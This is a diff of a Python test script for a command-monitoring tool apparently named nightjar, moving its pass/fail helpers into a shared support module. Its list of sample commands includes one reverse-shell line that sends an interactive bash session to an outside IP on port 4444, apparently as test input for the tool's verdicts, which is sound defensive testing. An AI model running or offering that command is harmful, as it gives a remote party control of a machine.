@@ -29,18 +29,9 @@ import sys
 import tempfile
 import time
 
-BIN = os.environ.get("NJ_BIN", "build/nightjar")
-passed = failed = 0
-
-
-def check(name, cond, detail=""):
-    global passed, failed
-    if cond:
-        passed += 1
-        print(f"ok   {name}")
-    else:
-        failed += 1
-        print(f"FAIL {name}" + (f": {detail}" if detail else ""))
+sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
+import njtest  # noqa: E402
+from njtest import BIN, check  # noqa: E402
 
 
 COMMANDS = ["git status", "ls -la /tmp", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "make -j2",
@@ -125,8 +116,7 @@ def main():
               f"{ev3} events, {vt3} verdicts")
     finally:
         shutil.rmtree(tmp, ignore_errors=True)
-    print(f"{passed} passed, {failed} failed")
-    sys.exit(1 if failed else 0)
+    njtest.finish()
 
 
 if __name__ == "__main__":
